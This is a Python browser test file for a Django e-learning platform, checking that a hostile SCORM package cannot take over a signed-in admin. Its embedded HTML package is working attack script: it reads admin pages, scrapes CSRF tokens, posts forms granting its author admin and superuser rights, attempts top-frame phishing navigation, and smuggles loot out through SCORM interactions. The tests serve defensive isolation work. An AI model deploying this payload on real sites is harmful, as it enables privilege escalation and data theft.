"""A partner's package that attacks the platform, opened by a signed-in platform admin in a
lesson and in the admin's package preview, in Chromium. Every attack must fail: the content
origin (another host name: no cookies, no app pages) and the lesson frame's sandbox (no
top navigation) are what stop them. The last test is their control: the same page served
from the platform's own origin, as the field test found packages served, reads the admin
pages and makes its author a platform administrator."""

import json

import pytest
from django.urls import reverse

from courses.tests.factories import enrolled
from organisations.tests.factories import ContentPartnerFactory
from people.models import Role, RoleAssignment, User
from people.tests.factories import UserFactory
from scorm.devtools.package_builder import ScoSpec, package_build
from scorm.models import Interaction
from scorm.tests.factories import package_imported, scorm_lesson
from tests.browsing import leave, sign_in, wait_for

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.usefixtures("scorm_content_origin"),
]

ATTACKS = ["read-app", "read-here", "read-top", "promote-app", "promote-here", "forms", "navigate-top"]

# The SCO: on a click (so that it has the user activation a top navigation needs) it tries
# each attack, writes what happened into the page, then tries to smuggle what it read out
# through cmi.interactions. `{{...}}` are filled in by the test.
HOSTILE_SCO = """<!DOCTYPE html>
<html lang="th"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>บทเรียนพิเศษ</title></head>
<body>
<h1>บทเรียนพิเศษ</h1>
<button id="attack" type="button">เริ่มบทเรียน</button>
<ul>{{RESULTS}}</ul>
<p id="done" hidden>done</p>
<form id="top-form" method="post" target="_top" action="{{APP}}/admin/snippets/people/roleassignment/add/">
  <input name="user" value="{{AUTHOR_EMAIL}}"><input name="role" value="platform_admin">
</form>
<form id="frame-form" method="post" target="sink" action="{{APP}}/admin/users/edit/{{AUTHOR_PK}}/">
  <input name="is_superuser" value="on"><input name="email" value="{{AUTHOR_EMAIL}}">
</form>
<iframe name="sink" hidden></iframe>
<script>
var APP = {{APP_JSON}};
var api = null;
for (var w = window; w && !api; w = w === w.parent ? null : w.parent) {
  try { api = w.API_1484_11 || null; } catch (e) { api = null; }
}
api.Initialize("");
function out(id, text) { document.getElementById(id).textContent = text; }
async function readPage(url) {
  try {
    var response = await fetch(url, { credentials: "include" });
    var text = await response.text();
    if (!response.ok) return "blocked: HTTP " + response.status;
    return "READ " + text.length + " characters: " + text.slice(0, 300);
  } catch (error) {
    return "blocked: " + error.name;
  }
}
async function formFrom(url) {
  var response = await fetch(url, { credentials: "include" });
  if (!response.ok) throw new Error("HTTP " + response.status);
  var page = new DOMParser().parseFromString(await response.text(), "text/html");
  var form = page.querySelector("form[method=post] input[name=csrfmiddlewaretoken]");
  if (!form) throw new Error("no form on " + url);
  return new FormData(form.form);
}
async function promote(base) {
  // Read each admin form with its CSRF token, fill it in and post it back.
  var results = [];
  try {
    var role = await formFrom(base + "/admin/snippets/people/roleassignment/add/");
    role.set("user", "{{AUTHOR_EMAIL}}");
    role.set("role", "platform_admin");
    var posted = await fetch(base + "/admin/snippets/people/roleassignment/add/",
      { method: "POST", body: role, credentials: "include" });
    results.push("POSTED role " + posted.status);
  } catch (error) { results.push("blocked: " + error.name + " " + error.message); }
  try {
    var user = await formFrom(base + "/admin/users/edit/{{AUTHOR_PK}}/");
    user.set("is_superuser", "on");
    var saved = await fetch(base + "/admin/users/edit/{{AUTHOR_PK}}/",
      { method: "POST", body: user, credentials: "include" });
    results.push("POSTED user " + saved.status);
  } catch (error) { results.push("blocked: " + error.name + " " + error.message); }
  return results.join(" | ");
}
document.getElementById("attack").addEventListener("click", async function () {
  try {
    out("read-top", "READ " + window.top.location.href + " " + window.top.document.title);
  } catch (error) { out("read-top", "blocked: " + error.name); }
  // Replace the platform page that frames the player (in a tab of its own the player is the
  // top page, and replacing it would only hide these results).
  var framed = window.top !== window.parent;
  try {
    if (framed) window.top.location.href = APP + "/?phished=1";
    out("navigate-top", framed ? "attempted" : "blocked: the player is the top page");
  } catch (error) { out("navigate-top", "blocked: " + error.name); }
  try {
    if (framed) document.getElementById("top-form").submit();
    document.getElementById("frame-form").submit();
    out("forms", "blocked: submitted without a CSRF token, the server decides");
  } catch (error) { out("forms", "blocked: " + error.name); }
  out("read-app", await readPage(APP + "/admin/"));
  out("read-here", await readPage("/admin/"));
  out("promote-app", await promote(APP));
  out("promote-here", await promote(""));
  var loot = {{ATTACKS_JSON}}.map(function (id) {
    return id + ": " + document.getElementById(id).textContent;
  }).join("\\n");
  api.SetValue("cmi.interactions.0.id", "exfiltration");
  api.SetValue("cmi.interactions.0.type", "other");
  api.SetValue("cmi.interactions.0.learner_response", loot.slice(0, 3900));
  api.Commit("");
  document.getElementById("done").hidden = false;
});
</script>
</body></html>
"""


def hostile_package_html(*, app_origin: str, author: User) -> str:
    results = "".join(f'<li id="{attack}"></li>' for attack in ATTACKS)
    replacements = {
        "{{RESULTS}}": results,
        "{{APP_JSON}}": json.dumps(app_origin),
        "{{APP}}": app_origin,
        "{{AUTHOR_EMAIL}}": author.email,
        "{{AUTHOR_PK}}": str(author.pk),
        "{{ATTACKS_JSON}}": json.dumps(ATTACKS),
    }
    html = HOSTILE_SCO
    for marker, value in replacements.items():
        html = html.replace(marker, value)
    return html


@pytest.fixture
def hostile(site_tree, live_server):
    """A platform admin, a partner author, and the author's hostile package in a lesson the
    admin is enrolled in."""
    partner = ContentPartnerFactory()
    author = UserFactory(email="author@partner.test")
    RoleAssignment.objects.create(user=author, role=Role.PARTNER_AUTHOR, partner=partner)
    admin = UserFactory(email="platform-admin@thaksa.test", is_superuser=True)
    html = hostile_package_html(app_origin=live_server.url, author=author)
    package = package_imported(
        package_build(version="2004", scos=[ScoSpec(identifier="SCO-1", title="บทเรียนพิเศษ", html=html)]),
        partner=partner,
    )
    lesson = scorm_lesson(package=package)
    enrolled(admin, lesson)
    return {"admin": admin, "author": author, "package": package, "lesson": lesson}


def _attack(sco) -> dict[str, str]:
    sco.locator("#attack").click()
    sco.locator("#done").wait_for(state="visible")
    return {attack: sco.locator(f"#{attack}").inner_text() for attack in ATTACKS}


def _assert_platform_untouched(author: User, roles_before: int) -> None:
    author.refresh_from_db()
    assert not author.is_superuser
    assert not RoleAssignment.objects.filter(user=author, role=Role.PLATFORM_ADMIN).exists()
    assert RoleAssignment.objects.count() == roles_before
    assert list(User.objects.filter(is_superuser=True).values_list("email", flat=True)) == [
        "platform-admin@thaksa.test"
    ]


def test_a_hostile_package_in_a_lesson_gets_nothing_from_a_signed_in_admin(
    hostile, live_server, page, screenshot
):
    roles_before = RoleAssignment.objects.count()
    lesson_url = hostile["lesson"].url
    sign_in(page, live_server, hostile["admin"], lesson_url)
    sco = page.frame_locator("iframe.scorm-block__frame").frame_locator("#scorm-content")
    outcomes = _attack(sco)

    assert all(outcome.startswith("blocked") for outcome in outcomes.values()), outcomes
    # What the package tried to smuggle out through its interactions holds nothing it read.
    wait_for(lambda: Interaction.objects.filter(interaction_id="exfiltration").exists())
    loot = Interaction.objects.get(interaction_id="exfiltration").learner_response
    assert "READ" not in loot
    assert "POSTED" not in loot
    _assert_platform_untouched(hostile["author"], roles_before)
    assert page.url == f"{live_server.url}{lesson_url}"  # the lesson is still the top page
    assert "phished" not in page.url

    for width, height in ((1366, 900), (375, 812)):
        page.set_viewport_size({"width": width, "height": height})
        sco.locator("#done").scroll_into_view_if_needed()  # the package's frame has painted
        screenshot(f"scorm-hostile-package-lesson-{width}")
    leave(page)


def test_a_hostile_package_in_the_admin_preview_gets_nothing_from_a_signed_in_admin(
    hostile, live_server, page
):
    roles_before = RoleAssignment.objects.count()
    detail = reverse("scorm_admin:detail", args=[hostile["package"].pk])
    sign_in(page, live_server, hostile["admin"], detail)
    with page.expect_popup() as opened:
        page.locator("a[href*='/scorm/preview/']").first.click()
    preview = opened.value
    outcomes = _attack(preview.frame_locator("#scorm-content"))

    # In a tab of its own the player is the top page: what the package reads there is its own.
    assert live_server.url not in outcomes.pop("read-top")
    assert all(outcome.startswith("blocked") for outcome in outcomes.values()), outcomes
    _assert_platform_untouched(hostile["author"], roles_before)
    assert page.url == f"{live_server.url}{detail}"
    leave(preview)
    leave(page)


def test_the_same_package_served_from_the_platforms_own_origin_takes_over_the_admin(
    hostile, live_server, page
):
    """The control for the two tests above: the very same page, served as the field test found
    packages served (from the platform's origin, unframed, no sandbox), makes its author a
    platform administrator. So "blocked" above is the isolation's doing, not a probe that
    cannot succeed."""
    html = hostile_package_html(app_origin=live_server.url, author=hostile["author"])
    address = f"{live_server.url}/hostile-package-on-the-app-origin/"
    sign_in(page, live_server, hostile["admin"], "/")
    # A stand-in for the SCORM API the package looks for (this page has no player).
    page.add_init_script(
        "window.API_1484_11 = {Initialize() { return 'true'; }, SetValue() { return 'true'; },"
        " Commit() { return 'true'; }};"
    )
    page.route(address, lambda route: route.fulfill(status=200, content_type="text/html", body=html))
    page.goto(address)

    outcomes = _attack(page)

    assert outcomes["read-here"].startswith("READ"), outcomes
    assert "POSTED role" in outcomes["promote-here"], outcomes
    wait_for(lambda: RoleAssignment.objects.filter(user=hostile["author"], role=Role.PLATFORM_ADMIN).exists())
    leave(page)
